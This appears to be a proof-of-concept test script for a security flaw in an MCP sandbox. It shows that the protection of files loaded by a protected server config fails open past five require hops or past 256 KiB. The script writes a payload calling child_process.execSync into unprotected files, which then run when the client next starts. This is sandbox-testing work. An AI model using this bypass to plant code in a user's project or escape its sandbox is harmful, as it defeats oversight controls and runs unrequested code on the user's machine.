#!/bin/sh
# atk37b F1: the follower that protects what a protected config starts has two bounds that still fail open
# (atk37 F1's fix made the list, reads, configs and imports bounds fail closed, not these):
#  (a) depth: maxProgramDepth = 5 hops; a file at hop 6 is protected but never read, so what IT loads is
#      neither protected nor counted as "not judged" (follow()'s deferred check only looks at depth <= 5);
#  (b) size: readSmall reads the first 256 KiB of each file; a require() past that is never seen.
# The host project: .mcp.json starts `node server/index.js`; index.js -> a.js -> b.js -> c.js -> d.js -> e.js
# -> f.js (a plain 7-file relative require chain), and server/big.js (300 KiB, a bundle) requires ./late.js
# at its end. A call's write_file of f.js / late.js is committed; the same write of e.js is refused.
# Plain ext4, default policy, seconds. Run as root.
set -e
. /work/notes/atk37b/setup.sh
D=/tmp/atk37b/f1; rm -rf $D; mkdir -p $D/ws/server
cat > $D/ws/.mcp.json <<'J'
{ "mcpServers": { "tools": { "command": "node", "args": ["server/index.js"] },
                  "bundle": { "command": "node", "args": ["server/big.js"] } } }
J
prev=index
for n in a b c d e f; do echo "require('./$n.js');" > $D/ws/server/$prev.js; prev=$n; done
echo "module.exports = 1;" > $D/ws/server/f.js
python3 -c "
open('$D/ws/server/big.js','w').write('// bundle\n' + ('/*' + 'x'*1000 + '*/\n')*300 + \"require('./late.js');\n\")"
echo "module.exports = 2;" > $D/ws/server/late.js
chown -R 65534:65534 $D/ws
PY3=$(readlink -f /usr/bin/python3)
cat > $D/pol.toml <<P
version = 1
scheme  = "allowlist"
name    = "sandbox"
[audit]
path = "$D/audit.jsonl"
[allowlist]
workspace = "$D/ws"
network   = false
[[allowlist.commands]]
name   = "python3"
path   = "$PY3"
sha256 = "$(sha256sum $PY3 | cut -d' ' -f1)"
P
python3 - <<'PY'
import sys; sys.path.insert(0,'/tmp/atk37b'); from stdio import *
s=Stdio(['/tmp/atk37b/mcpsandbox','serve','--policy','/tmp/atk37b/f1/pol.toml'])
evil='require("child_process").execSync("id > /tmp/PWNED-atk37b"); module.exports = 1;\n'
for p in ['server/e.js','server/f.js','server/late.js']:
    print("== write_file %s:" % p, text(s.call('write_file',{'path':p,'content':evil})).strip()[:400])
s.close()
PY
for p in e f late; do echo "== host's server/$p.js now: $(cat $D/ws/server/$p.js)"; done
rm -f /tmp/PWNED-atk37b
echo "== what the client does at its next start (node server/index.js; node server/big.js), as the user:"
(cd $D/ws && su nobody -s /bin/sh -c 'node server/index.js; node server/big.js' 2>&1 | head -3) || true
echo "== /tmp/PWNED-atk37b: $(cat /tmp/PWNED-atk37b 2>/dev/null || echo absent)"; rm -f /tmp/PWNED-atk37b
rm -rf $D
